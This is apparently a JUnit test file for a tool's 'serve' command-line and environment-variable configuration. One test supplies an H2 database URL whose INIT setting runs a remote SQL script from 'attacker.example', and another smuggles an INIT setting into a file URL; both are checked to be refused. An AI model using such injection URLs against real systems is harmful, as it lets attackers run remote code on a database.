package dev.tollgate.app;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.tollgate.main.Main;
import dev.tollgate.options.EnvironmentDefaults;
import dev.tollgate.options.Sources;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine.ParameterException;
import picocli.CommandLine;

/** {@code tollgate serve}'s options, read as the executable reads them, into its configuration. */
class ServeOptionsTest {

  @TempDir
  Path directory;

  /** The configuration of {@code tollgate serve ARGS} in this environment, or its refusal. */
  static ServerConfig config(Map<String, String> environment, String... args) {
    String[] all = new String[args.length + 1];
    all[0] = "serve";
    System.arraycopy(args, 0, all, 1, args.length);
    return parsed(environment, all).options.config();
  }

  /** {@code tollgate ARGS}'s serve command, parsed as the executable parses it. */
  private static ServeCommand parsed(Map<String, String> environment, String... all) {
    CommandLine tree = Main.commandLine(false, all);
    CommandLine serve = tree.getSubcommands().get("serve");
    serve.getCommandSpec().defaultValueProvider(new EnvironmentDefaults(environment));
    try {
      tree.parseArgs(all);
    } catch (ParameterException e) {
      throw Sources.named(e, all);
    }
    return serve.getCommand();
  }

  private ServerConfig config(String... args) {
    return config(Map.of(), args);
  }

  @Test
  void defaults_config_isLoopback8091AndH2InTheDataDirectory() {
    ServerConfig config = config("--data-dir", directory.toString());

    assertThat(config.listen().getHostString()).isEqualTo("127.0.0.1");
    assertThat(config.listen().getPort()).isEqualTo(8091);
    assertThat(config.database().jdbcUrl()).startsWith("jdbc:h2:file:" + directory.resolve("tollgate"))
        .contains("RETENTION_TIME=0");
    assertThat(config.tls()).isInstanceOf(ServerConfig.Tls.Disabled.class);
    assertThat(config.oauth()).isEmpty();
  }

  @Test
  void ipv6AndPostgres_config_areRead() {
    ServerConfig config = config("--data-dir", directory.toString(), "--listen", "[::1]:9000",
        "--database-url", "jdbc:postgresql://db:5432/tollgate?password=hunter2");

    assertThat(config.listen().getAddress().isLoopbackAddress()).isTrue();
    assertThat(config.listen().getPort()).isEqualTo(9000);
    assertThat(config.database().isPostgres()).isTrue();
    assertThat(config.database().describe()).doesNotContain("hunter2");
    assertThat(config.database().toString()).doesNotContain("hunter2");
  }

  @Test
  void unsupportedDatabase_config_isRefusedNamingIt() {
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--database-url",
        "jdbc:mysql://db/tollgate"))
        .hasMessageContaining("jdbc:mysql://db/tollgate is not supported");
  }

  @Test
  void badPortAndTlsCombinations_config_areRefused() {
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--listen", "host:99999"))
        .hasMessage("--listen \"host:99999\": port 99999 is out of range; expected 0 to 65535"
            + " (0: any free port)");
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--listen", "8091"))
        .hasMessageContaining("is not an address; expected HOST:PORT");
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--tls-self-signed",
        "--tls-cert", "a.pem")).hasMessageContaining("cannot be combined");
  }

  @Test
  void followingIntervals_config_defaultTo200msAnd5mAndReadGoDurations() {
    assertThat(config("--data-dir", directory.toString()).following())
        .isEqualTo(new ServerConfig.Following(Duration.ofMillis(200), Duration.ofMinutes(5),
            Optional.empty()));
    assertThat(config("--data-dir", directory.toString(), "--poll-interval", "50ms",
        "--reconcile-interval", "1m30s", "--purge-revoked-after", "720h").following())
        .isEqualTo(new ServerConfig.Following(Duration.ofMillis(50),
            Duration.ofSeconds(90),
            Optional.of(Duration.ofHours(720))));
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--poll-interval", "5"))
        .hasMessage("--poll-interval \"5\" is not a duration; give it a unit: 5ms, 5s, 5m, 5h"
            + " or 5d");
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--poll-interval", "5x"))
        .hasMessage("--poll-interval \"5x\" is not a duration; expected a number and a unit (ms,"
            + " s, m, h or d), such as 30s, 1h30m or 7d");
  }

  @Test
  void logFormatAndMetrics_config_areCheckedBeforeAnythingIsWritten() {
    assertThat(config("--data-dir", directory.toString(), "--metrics-listen", "127.0.0.1:9091")
        .metricsListen()).hasValueSatisfying(address -> assertThat(address.getPort())
            .isEqualTo(9091));
    assertThatThrownBy(() -> config("--data-dir", directory.resolve("new").toString(),
        "--log-format", "yaml")).hasMessage("--log-format \"yaml\" is not a log format;"
            + " expected text or json");
    assertThatThrownBy(() -> config("--data-dir", directory.resolve("new").toString(),
        "--metrics-listen", "9091")).hasMessageStartingWith("--metrics-listen \"9091\" is not an"
            + " address");
    assertThat(directory.resolve("new")).doesNotExist();
  }

  @Test
  void lifetimePolicy_config_isOffByDefaultAndReadsDays() {
    assertThat(config("--data-dir", directory.toString()).limits().managementLifetime()).isEmpty();
    dev.tollgate.domain.model.Limits limits = config("--data-dir", directory.toString(),
        "--max-management-token-lifetime", "90d", "--max-database-token-lifetime", "8760h")
        .limits();
    assertThat(limits.managementLifetime()).contains(Duration.ofDays(90));
    assertThat(limits.databaseLifetime()).contains(Duration.ofDays(365));
    assertThatThrownBy(() -> config("--data-dir", directory.toString(),
        "--max-database-token-lifetime", "90")).hasMessage("--max-database-token-lifetime \"90\""
            + " is not a duration; give it a unit: 90ms, 90s, 90m, 90h or 90d");
  }

  @Test
  void requestLimits_config_defaultTo1000AndRefuseWhatIsNotAPositiveWholeNumber() {
    assertThat(config("--data-dir", directory.toString()).limits())
        .isEqualTo(dev.tollgate.domain.model.Limits.defaults());
    assertThat(config("--data-dir", directory.toString(), "--max-token-permissions", "10",
        "--max-revoke-ids", "20", "--max-authorize-permissions", "30").limits())
        .isEqualTo(new dev.tollgate.domain.model.Limits(10, 20, 30));
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--max-revoke-ids", "0"))
        .hasMessage("--max-revoke-ids \"0\" is not a limit; expected a whole number of at least 1,"
            + " such as 1000");
    assertThatThrownBy(() -> config("--data-dir", directory.toString(),
        "--max-authorize-permissions", "lots")).hasMessageStartingWith(
            "--max-authorize-permissions \"lots\" is not a limit");
  }

  @Test
  void h2DatabaseUrl_config_acceptsFileAndMemoryOnly_andOnlyKnownSafeSettings() {
    assertThat(config("--data-dir", directory.toString(), "--database-url",
        "jdbc:h2:mem:tollgate;DB_CLOSE_DELAY=-1").database().jdbcUrl())
        .isEqualTo("jdbc:h2:mem:tollgate;DB_CLOSE_DELAY=-1");
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--database-url",
        "jdbc:h2:tcp://db/tollgate")).hasMessageContaining("is not supported; expected"
            + " jdbc:postgresql://HOST[:PORT]/DATABASE, jdbc:h2:file:PATH or jdbc:h2:mem:NAME");
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--database-url",
        "jdbc:h2:mem:x;init=RUNSCRIPT FROM 'http://attacker.example/x.sql'"))
        .hasMessageContaining("sets INIT, which Tollgate does not accept; the H2 settings"
            + " Tollgate accepts are CACHE_SIZE, DB_CLOSE_DELAY,");
    assertThatThrownBy(() -> config("--data-dir", directory.resolve("new").toString(),
        "--database-url", "jdbc:h2:file:/tmp/x;\\INIT=CALL 1"))
        .hasMessageContaining("sets INIT, which Tollgate does not accept");
    assertThat(directory.resolve("new")).as("nothing written").doesNotExist();
  }

  @Test
  void callBudgets_config_defaultAndReadOptions() {
    assertThat(config("--data-dir", directory.toString()).calls())
        .isEqualTo(new ServerConfig.Calls(2_000, 64, 1_000, Duration.ofMinutes(10),
            Duration.ofMinutes(30), 200, Duration.ofMinutes(2), Duration.ofSeconds(20),
            Duration.ofSeconds(30), Duration.ofSeconds(5)));
    assertThat(config("--data-dir", directory.toString(), "--max-authorize-calls", "500",
        "--max-management-calls", "8", "--max-calls-per-connection", "100",
        "--max-connection-idle", "1m", "--max-connection-age", "2h", "--max-resets-per-10s", "50",
        "--keepalive", "1m", "--keepalive-timeout", "5s", "--min-client-ping", "10s",
        "--request-timeout", "1500ms").calls())
        .isEqualTo(new ServerConfig.Calls(500, 8, 100, Duration.ofMinutes(1),
            Duration.ofHours(2), 50, Duration.ofMinutes(1),
            Duration.ofSeconds(5), Duration.ofSeconds(10),
            Duration.ofMillis(1500)));
    assertThatThrownBy(() -> config("--data-dir", directory.toString(),
        "--max-management-calls", "-1")).hasMessageStartingWith(
            "--max-management-calls \"-1\" is not a limit");
  }

  @Test
  void requestTimeout_config_defaultsToAFewSeconds_andABadOneIsNamed() {
    assertThat(config("--data-dir", directory.toString()).calls().requestTimeout())
        .isEqualTo(Duration.ofSeconds(5));
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--request-timeout",
        "0.1ms")).hasMessageStartingWith("--request-timeout \"0.1ms\" is not a timeout; expected"
            + " a duration of at least 1ms, such as 5s");
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--request-timeout",
        "soon")).hasMessageStartingWith("--request-timeout \"soon\"");
  }

  @Test
  void variables_config_giveEachOptionNotOnTheCommandLine_andABadOneIsNamedByItsVariable() {
    Map<String, String> environment = Map.of("TOLLGATE_LISTEN", "[::1]:9000",
        "TOLLGATE_POLL_INTERVAL", "50ms", "TOLLGATE_MAX_REVOKE_IDS", "20",
        "TOLLGATE_TLS_SELF_SIGNED", "true", "TOLLGATE_METRICS_LISTEN", "");

    ServerConfig config = config(environment, "--data-dir", directory.toString(),
        "--poll-interval", "1s");

    assertThat(config.listen().getPort()).isEqualTo(9000);
    assertThat(config.following().pollInterval()).as("the flag before its variable")
        .isEqualTo(Duration.ofSeconds(1));
    assertThat(config.limits().idsPerRevoke()).isEqualTo(20);
    assertThat(config.tls()).isInstanceOf(ServerConfig.Tls.SelfSigned.class);
    assertThat(config.metricsListen()).as("an empty variable of what is off unless set").isEmpty();
    assertThatThrownBy(() -> config(Map.of("TOLLGATE_KEEPALIVE", "30"), "--data-dir",
        directory.toString())).hasMessage("TOLLGATE_KEEPALIVE=\"30\" is not a duration; give it a"
            + " unit: 30ms, 30s, 30m, 30h or 30d");
    assertThatThrownBy(() -> config(Map.of("TOLLGATE_LISTEN", "host:99999"), "--data-dir",
        directory.toString())).hasMessage("TOLLGATE_LISTEN=\"host:99999\": port 99999 is out of"
            + " range; expected 0 to 65535 (0: any free port)");
  }

  @Test
  void bootstrapActions_config_areNeverReadFromTheEnvironment() {
    ServeCommand serve = parsed(Map.of("TOLLGATE_ROTATE_BOOTSTRAP_ADMIN", "true",
        "TOLLGATE_DISABLE_BOOTSTRAP_ADMIN", "true"), "serve");

    assertThat(serve.options.bootstrapChange())
        .isEqualTo(dev.tollgate.domain.port.in.ProvisionBootstrapAdminUseCase.Change.NONE);
  }

  @Test
  void readyFile_config_isOffUnlessGiven() {
    assertThat(parsed(Map.of("TOLLGATE_READY_FILE", directory.resolve("ready").toString()),
        "serve").options.readyFile()).contains(directory.resolve("ready"));
    assertThat(parsed(Map.of(), "serve").options.readyFile()).isEmpty();
  }

  @Test
  void httpListen_config_isLoopback8092UnlessGiven() {
    assertThat(config("--data-dir", directory.toString()).httpListen()).hasValueSatisfying(
        address -> assertThat(address.getHostString() + ":" + address.getPort())
            .isEqualTo("127.0.0.1:8092"));
    assertThat(config(Map.of("TOLLGATE_HTTP_LISTEN", "127.0.0.1:0"), "--data-dir",
        directory.toString()).httpListen().orElseThrow().getPort()).isZero();
    assertThat(config("--data-dir", directory.toString(), "--http-listen", "[::1]:8093")
        .httpListen().orElseThrow().getPort()).isEqualTo(8093);
  }

  @Test
  void httpListenOff_config_hasNoHttpDoor() {
    assertThat(config("--data-dir", directory.toString(), "--http-listen", "off").httpListen())
        .isEmpty();
    assertThat(config(Map.of("TOLLGATE_HTTP_LISTEN", "OFF"), "--data-dir", directory.toString())
        .httpListen()).isEmpty();
    assertThat(config(Map.of("TOLLGATE_HTTP_LISTEN", ""), "--data-dir", directory.toString())
        .httpListen()).as("an empty variable, as every option that can be off").isEmpty();
    assertThat(config("--data-dir", directory.toString(), "--metrics-listen", "off")
        .metricsListen()).as("off is spelled the same for every option").isEmpty();
  }

  @Test
  void httpListenOffLoopback_config_isRefusedWithoutTls_andAllowedWithIt() {
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--http-listen",
        "0.0.0.0:8092")).hasMessageStartingWith("--http-listen \"0.0.0.0:8092\": without TLS the"
            + " HTTP API speaks plaintext, so it listens on loopback only");
    assertThat(config("--data-dir", directory.toString(), "--tls-self-signed", "--http-listen",
        "0.0.0.0:8092").httpListen()).hasValueSatisfying(address ->
            assertThat(address.getPort()).isEqualTo(8092));
  }

  @Test
  void accountAndClusterIds_config_goTogether() {
    assertThat(config("--data-dir", directory.toString()).cluster()).isEmpty();
    assertThat(config(Map.of("TOLLGATE_ACCOUNT_ID", "acc-1"), "--data-dir", directory.toString(),
        "--cluster-id", "cl-9").cluster())
        .contains(new dev.tollgate.http.ClusterIds("acc-1", "cl-9"));
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--account-id", "acc-1"))
        .hasMessage("--account-id and --cluster-id go together; --cluster-id is missing");
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--cluster-id", "c",
        "--account-id", "a/b")).hasMessageContaining("\"a/b\"");
  }

  @Test
  void consoleClient_config_isOffByDefault_needsOAuth_andABadIdOrScopeIsNamed() throws Exception {
    Path users = java.nio.file.Files.writeString(directory.resolve("users.json"),
        "[{\"id\": \"ada\"}]");
    String[] oauth = {"--data-dir", directory.toString(), "--oauth-issuer",
        "https://idp.example.com", "--oauth-audience", "tollgate", "--oauth-users-file",
        users.toString()};
    assertThat(config(oauth).consoleClient()).isEmpty();
    assertThat(config(Map.of("TOLLGATE_OAUTH_CONSOLE_CLIENT_ID", "tollgate-console"), oauth)
        .consoleClient()).contains(new ServerConfig.ConsoleClient("tollgate-console", "tollgate"));

    assertThatThrownBy(() -> config("--data-dir", directory.toString(),
        "--oauth-console-client-id", "tollgate-console"))
        .hasMessageContaining("--oauth-console-client-id tollgate-console needs the identity"
            + " provider it signs in at: give --oauth-issuer");
    assertThatThrownBy(() -> config(Map.of("TOLLGATE_OAUTH_CONSOLE_CLIENT_ID", "has space"),
        oauth)).hasMessageContaining("--oauth-console-client-id \"has space\" is not an OAuth"
            + " client id; expected 1 to 255 printable ASCII characters without spaces");
    assertThatThrownBy(() -> config(Map.of("TOLLGATE_OAUTH_CONSOLE_CLIENT_ID", "c",
        "TOLLGATE_OAUTH_CONSOLE_SCOPE", "a\"b"), oauth))
        .hasMessageContaining("--oauth-console-scope").hasMessageContaining("a")
        .hasMessageContaining("is not a list of OAuth scopes; expected scope names separated by");
  }
}
